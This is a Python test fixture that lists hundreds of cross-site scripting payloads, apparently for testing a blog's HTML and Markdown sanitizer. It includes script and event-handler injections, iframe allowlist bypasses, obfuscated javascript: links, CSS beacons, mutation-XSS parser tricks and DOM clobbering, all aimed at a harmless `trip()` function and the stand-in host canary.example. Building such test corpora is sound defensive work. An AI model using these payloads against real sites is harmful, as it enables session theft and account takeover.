"""Ways to run a program, or to reach out of a page, from inside a post.

`trip()` is the program that wants to run, `canary.example` the host that wants to be asked. Some
act only when touched: the tests click on links and fire the events that elements listen to.
"""

HANDLERS = {
    f"handler-{event}": f"<{tag} on{event}=trip()>{inner}"
    for event, tag, inner in (
        ("click", "div", "a"),
        ("mouseover", "b", "a"),
        ("focus", "input autofocus", ""),
        ("error", "img src=nowhere", ""),
        ("load", "body", ""),
        ("toggle", "details open", "<summary>a</summary>b"),
        ("animationstart", "p style='animation: x'", "a"),
        ("pointerenter", "table", "<td>a"),
        ("wheel", "section", "a"),
        ("copy", "pre", "a"),
        ("beforeinput", "p contenteditable", "a"),
        ("scrollend", "ul", "<li>a"),
        ("loadstart", "video src=nowhere", ""),
        ("error", "audio src=nowhere", ""),
        ("start", "marquee", "a"),
        ("pageshow", "body", ""),
        ("hashchange", "body", ""),
        ("contextmenu", "figure", "a"),
        ("auxclick", "a href=/x", "a"),
        ("beforetoggle", "div popover", "a"),
        ("securitypolicyviolation", "p", "a"),
    )
}

ELEMENTS = {
    "script": "<script>trip()</script>",
    "script-in-text": "before <script>trip()</script> after",
    "script-upper": "<SCRIPT>trip()</SCRIPT>",
    "script-slash": "<script/x>trip()</script>",
    "script-source": '<script src="https://canary.example/a.js"></script>',
    "script-source-relative": '<script src="//canary.example/a.js"></script>',
    "script-module": "<script type=module>trip()</script>",
    "script-unclosed": "<script>trip()//",
    "script-twice": "<scr<script>ipt>trip()</scr</script>ipt>",
    "script-line": "<script\n>trip()</script\n>",
    "script-comment-in-it": "<script><!--\ntrip()\n--></script>",
    "script-after-title": "<title><script></title><script>trip()</script>",
    "script-in-svg": "<svg><script>trip()</script></svg>",
    "script-in-svg-entity": "<svg><script>&#116;rip()</script></svg>",
    "script-in-svg-href": '<svg><script href="https://canary.example/a.js" /></svg>',
    "script-in-math": "<math><mtext><script>trip()</script></mtext></math>",
    "script-in-template": "<div><template shadowrootmode=open><script>trip()</script></template>",
    "script-in-select": "<select><script>trip()</script></select>",
    "script-in-table": "<table><script>trip()</script></table>",
    "script-in-object": "<object><script>trip()</script></object>",
    "script-in-noscript": "<noscript></noscript><script>trip()</script>",
    "iframe-javascript": '<iframe src="javascript:parent.trip()"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.trip()</script>"></iframe>',
    "iframe-both": '<iframe src="https://www.youtube.com/embed/x"'
    ' srcdoc="<script>parent.trip()</script>"></iframe>',
    "iframe-host": '<iframe src="https://canary.example/"></iframe>',
    "iframe-onload": '<iframe src="https://www.youtube.com/embed/x" onload=trip()></iframe>',
    "iframe-subdomain": '<iframe src="https://www.youtube.com.canary.example/embed/"></iframe>',
    "iframe-user": '<iframe src="https://www.youtube.com@canary.example/embed/"></iframe>',
    "iframe-user-encoded": '<iframe src="https://www.youtube.com%2f@canary.example/embed/">'
    "</iframe>",
    "iframe-backslash": '<iframe src="https://canary.example\\@www.youtube.com/embed/x"></iframe>',
    "iframe-backslashes": '<iframe src="\\\\canary.example/embed/"></iframe>',
    "iframe-tab": '<iframe src="https://\tcanary.example/embed/"></iframe>',
    "iframe-line": '<iframe src="//\ncanary.example/www.youtube.com/embed/"></iframe>',
    "iframe-entity-tab": '<iframe src="java&Tab;script&colon;parent.trip()"></iframe>',
    "iframe-fragment": '<iframe src="https://canary.example/#www.youtube.com/embed/"></iframe>',
    "iframe-port": '<iframe src="https://canary.example:443/embed/x"></iframe>',
    "iframe-dots": '<iframe src="https://canary.example/embed/../x"></iframe>',
    "iframe-upper": '<IFRAME SRC="HTTPS://CANARY.EXAMPLE/EMBED/"></IFRAME>',
    "iframe-in-attribute": '<p title="<iframe src=https://www.youtube.com/embed/x>" onclick=trip()>'
    "a</p>",
    "iframe-content": '<iframe src="https://www.youtube.com/embed/x"><img src=x onerror=trip()>'
    "</iframe><img src=x onerror=trip()>",
    "iframe-title": '<iframe src="https://www.youtube.com/embed/x"'
    " title='\"><img src=x onerror=trip()>'></iframe><img src=x onerror=trip()>",
    "iframe-data": '<iframe src="data:text/html,<script src=https://canary.example/></script>">'
    "</iframe>",
    "frameset": '<frameset><frame src="javascript:trip()"></frameset>',
    "object": '<object data="https://canary.example/"></object>',
    "object-javascript": '<object data="javascript:trip()"></object>',
    "object-html": '<object type="text/html" data="https://canary.example/x"></object>',
    "embed": '<embed src="https://canary.example/">',
    "embed-javascript": '<embed src="javascript:trip()">',
    "applet": "<applet code=x onerror=trip()>a</applet>",
    "portal": '<portal src="https://canary.example/"></portal>',
    "fencedframe": '<fencedframe src="https://canary.example/"></fencedframe>',
    "custom-element": "<x-a onclick=trip()>a</x-a>",
    "image": "<image src=nowhere onerror=trip()>",
    "isindex": "<isindex action=javascript:trip() type=submit>",
    "keygen": "<keygen autofocus onfocus=trip()>",
    "body": "<body onfocus=trip() tabindex=1>a",
    "base": '<base href="https://canary.example/">',
    "base-target": '<base target=x href="https://canary.example/"><a href=/x>a</a>',
    "link-style": '<link rel=stylesheet href="https://canary.example/a.css">',
    "link-prefetch": '<link rel=preload as=image href="https://canary.example/a.png">',
    "link-manifest": '<link rel=icon href="https://canary.example/a.ico">',
    "link-upper": "<LINK REL=STYLESHEET HREF=//canary.example/a.css>",
    "meta-refresh": '<meta http-equiv=refresh content="0;url=https://canary.example/">',
    "meta-refresh-script": '<meta http-equiv=refresh content="0;url=javascript:trip()">',
    "meta-policy": '<meta http-equiv=Content-Security-Policy content="report-uri x"'
    "><b onclick=trip()>a</b>",
    "dialog": '<dialog open onclose=trip() style="position:fixed">a</dialog>',
    "audio-source": '<audio><source src="javascript:trip()" onerror=trip()></audio>',
    "video-poster": '<video poster="javascript:trip()" src=x onerror=trip()></video>',
}

FORMS = {
    "form": '<form action="https://canary.example/"><input name=a><button>a</button></form>',
    "form-javascript": '<form action="javascript:trip()"><input type=submit></form>',
    "form-unclosed": '<form action="https://canary.example/">',
    "form-outside": '<form id=f action="https://canary.example/"></form><input form=f type=submit>',
    "button-action": '<form><button formaction="javascript:trip()">a</button></form>',
    "input-action": '<form><input type=image src=x formaction="javascript:trip()"></form>',
    "input-image": '<input type=image src="nowhere" onerror=trip()>',
    "textarea-focus": "<textarea autofocus onfocus=trip()>a</textarea>",
    "select-focus": "<select autofocus onfocus=trip()><option>a</select>",
    "form-in-form": '<form></form><form action="https://canary.example/"></form>',
    "form-data": '<form method=dialog action="javascript:trip()"><button>a</button></form>',
}

ADDRESSES = {
    f"address-{name}": f'<a href="{address}">a</a>'
    for name, address in (
        ("javascript", "javascript:trip()"),
        ("upper", "JaVaScRiPt:trip()"),
        ("blanks", "  javascript:trip()"),
        ("tab", "java\tscript:trip()"),
        ("line", "java\nscript:trip()"),
        ("entity", "&#106;avascript:trip()"),
        ("entity-hex", "&#x6A;avascript:trip()"),
        ("entity-long", "&#0000106&#0000097vascript:trip()"),
        ("entity-tab", "java&Tab;script:trip()"),
        ("entity-line", "java&NewLine;script:trip()"),
        ("entity-colon", "javascript&colon;trip()"),
        ("control", "&#1;javascript:trip()"),
        ("control-tab", "&#14; javascript:trip()"),
        ("comment", "javascript://%0atrip()"),
        ("comment-entity", "javascript://&NewLine;trip()"),
        ("web-like", "javascript://canary.example/%0Atrip()"),
        ("quoted", "javascript:'\\x3cimg src=x onerror=trip()>';trip()"),
        ("encoded", "javascript:%74rip()"),
        ("void", "javascript:void(trip())"),
        ("unicode", "javascript:\\u0074rip()"),
        ("return", "java&#13;script:trip()"),
    )
} | {
    "address-vbscript": '<a href="vbscript:trip()" onclick=trip()>a</a>',
    "address-data": '<a href="data:text/html,<script>alert(1)</script>" onclick=trip()>a</a>',
    "address-blob": '<a href="blob:https://canary.example/x" onclick=trip()>a</a>',
    "address-filesystem": '<a href="filesystem:https://canary.example/x" onclick=trip()>a</a>',
    "address-view-source": '<a href="view-source:javascript:x" onclick=trip()>a</a>',
    "address-ping": '<a href="javascript:trip()" ping="https://canary.example/">a</a>',
    "address-area": '<map name=m><area shape=default href="javascript:trip()"></map>',
    "address-unquoted": "<a href=javascript:trip()>a</a>",
    "address-backquote": "<a href=`x` href='x' onclick=trip()>a</a>",
    "address-twice": '<a href="javascript:trip()" href="/x">a</a>',
    "address-svg": '<svg><a xlink:href="javascript:trip()"><text y=9>a</text></a></svg>',
    "address-svg-href": '<svg><a href="javascript:trip()"><text y=9>a</text></a></svg>',
    "address-math": '<math><mi href="javascript:trip()">a</mi></math>',
    "address-formaction": '<button form=x formaction="javascript:trip()" onclick=trip()>a</button>',
    "address-background": '<table background="https://canary.example/a.png"><td>a</table>',
    "address-body-background": '<body background="https://canary.example/a.png">',
    "address-srcset": '<img srcset="javascript:trip() 2x" onerror=trip() src=nowhere>',
    "address-cite": '<blockquote cite="javascript:trip()" onclick=trip()>a</blockquote>',
    "address-image-javascript": '<img src="javascript:trip()" onerror=trip()>',
    "address-track": '<video src=x><track default src="javascript:trip()" onerror=trip()></video>',
}

STYLES = {
    "style": "<style>#host { display: none }</style>",
    "style-import": "<style>@import 'https://canary.example/a.css';</style>",
    "style-upper": "<STYLE>#host { display: none }</STYLE>",
    "style-unclosed": "<style>#host { display: none }",
    "style-in-svg": "<svg><style>#host { display: none }</style></svg>",
    "style-in-math": "<math><style><img src=x onerror=trip()></style></math>",
    "style-in-template": "<style><template></style><style>#host { display: none }</style>",
    "style-attribute": '<p style="background: url(https://canary.example/a.png)">a</p>',
    "style-overlay": '<p style="position: fixed; inset: 0; background:'
    ' image-set(url(https://canary.example/a.png) 1x)">a</p>',
    "style-escaped": '<p style="background: \\75 rl(https://canary.example/a.png)">a</p>',
    "style-content": '<p style="content: url(//canary.example/a.png)">a</p>',
    "style-list": '<ul style="list-style-image: url(//canary.example/a.png)"><li>a</ul>',
    "style-cursor": '<p style="border-image: url(//canary.example/a.png) 1; border: 1px solid">a',
    "style-variable": '<p style="--x: url(//canary.example/a.png); background: var(--x)">a',
}

MUTATIONS = {
    "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror=trip()>"></noscript>',
    "mutation-noscript-style": "<noscript><style></noscript><img src=x onerror=trip()></style>",
    "mutation-noscript-comment": "<noscript><!--</noscript><img src=x onerror=trip()>-->",
    "mutation-style": '<svg></p><style><a id="</style><img src=x onerror=trip()>">',
    "mutation-style-math": '<math></p><style><a id="</style><img src=x onerror=trip()>">',
    "mutation-title": '<svg></p><title><a id="</title><img src=x onerror=trip()>">',
    "mutation-form-math": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src=x onerror=trip()>",
    "mutation-table-math": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=x onerror=trip()&gt;" src=x onerror=trip()>',
    "mutation-table-math-text": "<math><mtext><table><mglyph><style><math>"
    "<img src=x onerror=trip()>",
    "mutation-annotation": '<math><annotation-xml encoding="text/html"><style><img src=x'
    " onerror=trip()></style></annotation-xml></math><img src=x onerror=trip()>",
    "mutation-annotation-svg": '<math><annotation-xml encoding="application/xhtml+xml"><svg>'
    "<foreignObject><img src=x onerror=trip()>",
    "mutation-foreign-object": "<svg><foreignObject><p><img src=x onerror=trip()></p>",
    "mutation-desc": '<svg><desc><noscript><p title="</noscript><img src=x onerror=trip()>">'
    "<img src=x onerror=trip()>",
    "mutation-svg-title": "<svg><title><template><img src=x onerror=trip()></template>"
    "<img src=x onerror=trip()>",
    "mutation-textarea": '<textarea><p title="</textarea><img src=x onerror=trip()>">',
    "mutation-title-html": '<title><p title="</title><img src=x onerror=trip()>"></title>',
    "mutation-xmp": '<xmp><p title="</xmp><img src=x onerror=trip()>"></xmp>',
    "mutation-noembed": '<noembed><p title="</noembed><img src=x onerror=trip()>"></noembed>',
    "mutation-noframes": '<noframes><p title="</noframes><img src=x onerror=trip()>"></noframes>',
    "mutation-iframe": '<iframe><p title="</iframe><img src=x onerror=trip()>"></iframe>',
    "mutation-plaintext": "<svg><plaintext></svg><img src=x onerror=trip()>",
    "mutation-comment": "<!--><img src=x onerror=trip()>-->",
    "mutation-comment-dash": "<!---><img src=x onerror=trip()>-->",
    "mutation-comment-bang": "<!-- a --!><img src=x onerror=trip()>-->",
    "mutation-comment-conditional": "<!--[if gte IE 4]><script>trip()</script><![endif]-->"
    "<img src=x onerror=trip()>",
    "mutation-comment-nested": "<!--<!-- --><img src=x onerror=trip()> -->",
    "mutation-comment-bogus": "<!x><img src=x onerror=trip()>",
    "mutation-end-bogus": "</x <img src=x onerror=trip()>><img src=x onerror=trip()>",
    "mutation-cdata": "<![CDATA[><img src=x onerror=trip()>]]>",
    "mutation-cdata-svg": "<svg><![CDATA[</svg><img src=x>]]></svg><img src=x onerror=trip()>",
    "mutation-instruction": "<?xml version='1.0'?><img src=x onerror=trip()>",
    "mutation-doctype": "<!DOCTYPE html [<!ENTITY x '><img src=x onerror=trip()>'>]>",
    "mutation-select": "<select><style></select><img src=x onerror=trip()></style>",
    "mutation-select-iframe": "<select><iframe></select><img src=x onerror=trip()></iframe>"
    "<img src=x onerror=trip()>",
    "mutation-table": "<table><tr><td><table><img src=x onerror=trip()>",
    "mutation-table-style": "<table><style></table><img src=x onerror=trip()></style>"
    "<img src=x onerror=trip()>",
    "mutation-caption": "<table><caption><svg><style></caption><img src=x onerror=trip()>",
    "mutation-colgroup": "<table><colgroup><template><style></template><img src=x onerror=trip()>"
    "</table><img src=x onerror=trip()>",
    "mutation-frameset": "<svg><frameset></svg><img src=x onerror=trip()>",
    "mutation-adoption": "<a><svg><a><style></a><img src=x onerror=trip()></style>"
    "<img src=x onerror=trip()>",
    "mutation-nobr": "<nobr><svg><desc><nobr><img src=x onerror=trip()>",
    "mutation-button": "<button><svg><desc><button><img src=x onerror=trip()>",
    "mutation-ruby": "<ruby><rt><svg><desc><rt><img src=x onerror=trip()>",
    "mutation-font": "<svg><font color=x><img src=x onerror=trip()>",
    "mutation-depth": "<div>" * 600 + "<svg><style><img src=x onerror=trip()>",
    "mutation-depth-form": "<b>" * 520 + "<table><form><svg></table><img src=x onerror=trip()>",
    "mutation-template": "<template><style></template><img src=x onerror=trip()></style>"
    "<img src=x onerror=trip()>",
    "mutation-shadow": "<div><template shadowrootmode=open><img src=x onerror=trip()></template>",
    "mutation-is": '<p is="x-a" onclick=trip()>a</p>',
    "mutation-namespace": '<x xmlns:svg="http://www.w3.org/2000/svg"><svg:script>a</svg:script>'
    "<img src=x onerror=trip()>",
}

DRAWINGS = {
    "svg-onload": "<svg onload=trip()>",
    "svg-animate": "<svg><animate onbegin=trip() attributeName=x dur=1s>",
    "svg-set": '<svg><a id=x><set attributeName=href to="javascript:trip()" onbegin=trip() />'
    "<text y=9>a</text></a>",
    "svg-values": '<svg><a><animate attributeName=href values="javascript:trip()" begin=0s'
    " onbegin=trip() /><text y=9>a</text></a>",
    "svg-use": '<svg><use href="https://canary.example/a.svg#x" /></svg>',
    "svg-use-data": '<svg><use href="data:image/svg+xml,<svg id=x></svg>#x" onclick=trip() />'
    "</svg>",
    "svg-image": '<svg><image href="https://canary.example/a.png" /></svg>',
    "svg-fe-image": '<svg width=9 height=9><filter id=f><feImage href="https://canary.example/a.png"'
    " /></filter><rect width=9 height=9 filter=url(#f) onclick=trip() /></svg>",
    "svg-handler": "<svg><g onclick=trip()><rect /></g></svg>",
    "svg-handler-prefix": "<svg><handler>trip()</handler><p onclick=trip()>a</svg>",
    "math-action": "<math><maction actiontype=statusline onclick=trip()>a</maction></math>",
    "math-brute": '<math href="javascript:trip()" onclick=trip()><mi>a</mi></math>',
}

CLOBBERING = {
    "clobber-form": "<form name=body></form>",
    "clobber-image": "<img name=getElementById>",
    "clobber-image-id": "<img id=cookie name=cookie>",
    "clobber-embed": "<embed name=querySelector>",
    "clobber-object": "<object id=createElement></object>",
    "clobber-iframe": '<iframe name=documentElement src="https://www.youtube.com/embed/x"></iframe>',
    "clobber-form-child": "<form name=forms><input name=length></form>",
    "clobber-form-attributes": "<form name=head onclick=trip()><input name=attributes></form>",
}

WRITING = {
    "tag-slash": "<img/src=x/onerror=trip()>",
    "tag-slashes": "<img//////src=x//////onerror=trip()//>",
    "tag-line": "<img\nsrc=x\nonerror=trip()>",
    "tag-form-feed": "<img\fsrc=x\fonerror=trip()>",
    "tag-no-blank": '<img src="x"onerror="trip()">',
    "tag-quotes": '<img """><img src=x onerror=trip()>">',
    "tag-equals": "<img =x src=x onerror=trip()>",
    "tag-upper": "<IMG SRC=x ONERROR=trip()>",
    "tag-entity-value": "<img src=x onerror=&#116;rip()>",
    "tag-unclosed-end": "<img src=x onerror=trip()><img src=x onerror=trip() title='",
    "tag-open-quote": "<p title='><img src=x onerror=trip()>'><img src=x onerror=trip()>",
    "tag-backquote": "<img src=`x` onerror=trip()>",
    "tag-nul": "<img src=x o\0nerror=trip() onerror=trip()>",
    "tag-brackets": "<<img src=x onerror=trip()>",
    "tag-unicode-fold": "<ſcript>trip()</ſcript><img src=x onerror=trip()>",
    "tag-zero-width": "<img src=x on\u200berror=trip() onerror=trip()>",
    "tag-full-width": "＜script＞trip()＜/script＞<img src=x onerror=trip()>",
    "tag-separator": "<img src=x\u2028onerror=trip() onerror=trip()>",
    "attribute-escape": "<p title='\"><img src=x onerror=trip()>' onclick=trip()>a</p>",
    "attribute-class": '<p class="x\'&quot;><img src=x onerror=trip()>" onclick=trip()>a</p>',
    "attribute-id": "<p id='\"><img src=x onerror=trip()>' onclick=trip()>a</p>",
    "attribute-framework": '<p x-data x-init="trip()" v-html="a" data-bind="a" ng-init="a"'
    " onclick=trip()>a</p>",
    "attribute-template": "<p onclick=trip()>{{constructor.constructor('trip()')()}}</p>",
}

# Written in Markdown; Jekyll's attribute lists too, whoever reads them.
MARKDOWN = {
    "markdown-link": "[a](javascript:trip())",
    "markdown-link-upper": "[a](JAVASCRIPT:trip())",
    "markdown-link-entity": "[a](javascript&colon;trip())",
    "markdown-link-pointed": "[a](<javascript:trip()>)",
    "markdown-link-line": "[a](<java&NewLine;script:trip()>)",
    "markdown-link-title": '[a](/x "\\"><img src=x onerror=trip()>")<img src=x onerror=trip()>',
    "markdown-link-data": "[a](data:text/html,x)<b onclick=trip()>b</b>",
    "markdown-reference": "[a][b]\n\n[b]: javascript:trip()\n",
    "markdown-reference-title": "[a][b]<img src=x onerror=trip()>\n\n"
    "[b]: /x '\"onclick=\"trip()'\n",
    "markdown-autolink": "<javascript:trip()>",
    "markdown-image": "![a](javascript:trip())<img src=x onerror=trip()>",
    "markdown-image-alt": '![a" onerror="trip()](nowhere)<b onclick=trip()>b</b>',
    "markdown-image-title": "![a](nowhere '\" onerror=\"trip()')<b onclick=trip()>b</b>",
    "markdown-code-language": '```"><img src=x onerror=trip()>\na\n```\n\n<b onclick=trip()>b</b>',
    "markdown-code-info": '~~~ a" onclick="trip()\na\n~~~\n\n<b onclick=trip()>b</b>',
    "markdown-heading": '# a"><img src=x onerror=trip()>',
    "markdown-heading-id": '# a {#x" onclick="trip()}\n\n<b onclick=trip()>b</b>',
    "markdown-attributes": 'a\n{: onclick="trip()" onmouseover="trip()"}\n\n'
    "<b onclick=trip()>b</b>",
    "markdown-attributes-span": '*a*{: onclick="trip()" style="x"}<b onclick=trip()>b</b>',
    "markdown-attributes-link": '[a](/x){: href="javascript:trip()"}<b onclick=trip()>b</b>',
    "markdown-footnote": 'a[^"><img src=x>]\n\n[^"><img src=x>]: <img src=x onerror=trip()>\n',
    "markdown-table": '| a |\n|:-" onclick="trip()|\n| <img src=x onerror=trip()> |\n',
    "markdown-emphasis": "*<img src=x onerror=trip()>*",
    "markdown-list": "- a\n\n  <script>trip()</script>\n",
    "markdown-quote": "> <script>trip()</script>\n",
    "markdown-definition": "a\n: <img src=x onerror=trip()>\n",
    "markdown-abbreviation": '*[a]: "><img src=x onerror=trip()>\n\na\n',
    "markdown-mathematics": "$$\\href{javascript:trip()}{a}$$<img src=x onerror=trip()>",
    "markdown-nomarkdown": "{::nomarkdown}<img src=x onerror=trip()>{:/}",
    "markdown-code-span": "`<script>`<img src=x onerror=trip()>`</script>`",
    "liquid": "{{ '<img src=x onerror=trip()>' }}<img src=x onerror=trip()>",
    "liquid-capture": "{% capture x %}<script>{% endcapture %}{{ x }}trip()</script>"
    "<img src=x onerror=trip()>",
    "excerpt-unclosed": "<img src=x onerror=trip()><p title='\n\nb'>",
    "excerpt-comment": "<!-- a\n\n--><img src=x onerror=trip()>",
}

VECTORS = {
    **HANDLERS,
    **ELEMENTS,
    **FORMS,
    **ADDRESSES,
    **STYLES,
    **MUTATIONS,
    **DRAWINGS,
    **CLOBBERING,
    **WRITING,
    **MARKDOWN,
}
